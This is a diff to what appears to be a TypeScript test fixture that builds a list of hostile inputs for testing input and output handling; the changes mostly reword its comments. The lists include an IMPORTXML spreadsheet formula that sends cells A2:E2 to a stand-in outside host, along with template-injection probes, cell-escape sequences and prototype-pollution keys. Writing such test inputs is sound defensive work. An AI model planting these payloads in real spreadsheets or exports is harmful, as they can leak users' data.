@@ -1,4 +1,4 @@
-/** What a formula begins with, in one spreadsheet or another. */
+/** Characters that start a formula, in one spreadsheet program or another. */
 const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
 
 const FORMULAS = [
@@ -8,7 +8,7 @@ const FORMULAS = [
   '1+1',
   'IMPORTXML(CONCAT("//elsewhere.example/",A2:E2),"//a")',
 ]
-/** Where a text may try to leave its cell, in CSV, in XML and in a page. */
+/** Sequences with which a text may escape its cell, in CSV, in XML and in a page. */
 const WAYS_OUT = [
   '"',
   '""',
@@ -37,7 +37,7 @@ const WAYS_OUT = [
   '<%= 7*7 %>',
   '{{7*7}}',
 ]
-/** Characters that are none, that cannot be seen, or that turn a line around. */
+/** Characters that are invalid, invisible, or change the direction of a line. */
 const CHARACTERS = [
   ...Array.from({ length: 31 }, (_, at) => String.fromCharCode(at + 1)),
   '\u007F',
@@ -59,7 +59,7 @@ const CHARACTERS = [
   '\u{1F469}\u200D\u{1F680}',
   '\u{10FFFD}',
 ]
-/** What a reader may take for something of its own. */
+/** Texts that a reader may interpret as something else. */
 const WORDS = [
   '__proto__',
   'constructor',
@@ -90,9 +90,9 @@ const WORDS = [
   '日本語、テキスト',
   'e\u0301\u0323',
 ]
-const LONG = ['x'.repeat(10_000), '\u{1F600}'.repeat(10_000), '"'.repeat(10_000), '\u0001'.repeat(10_000)]
+const LONG = ['x'.repeat(10_000), '\u{1F600}'.repeat(10_000), '"'.repeat(10_000), `${'\u0001'.repeat(9_999)}x`]
 
-/** More than 200 texts that someone might answer with who means harm, or does not. */
+/** More than 200 texts that people might enter, maliciously or not. */
 export const HOSTILE_TEXTS: readonly string[] = [
   ...new Set([
     ...FORMULA_STARTS.flatMap(start => FORMULAS.map(formula => start + formula)),
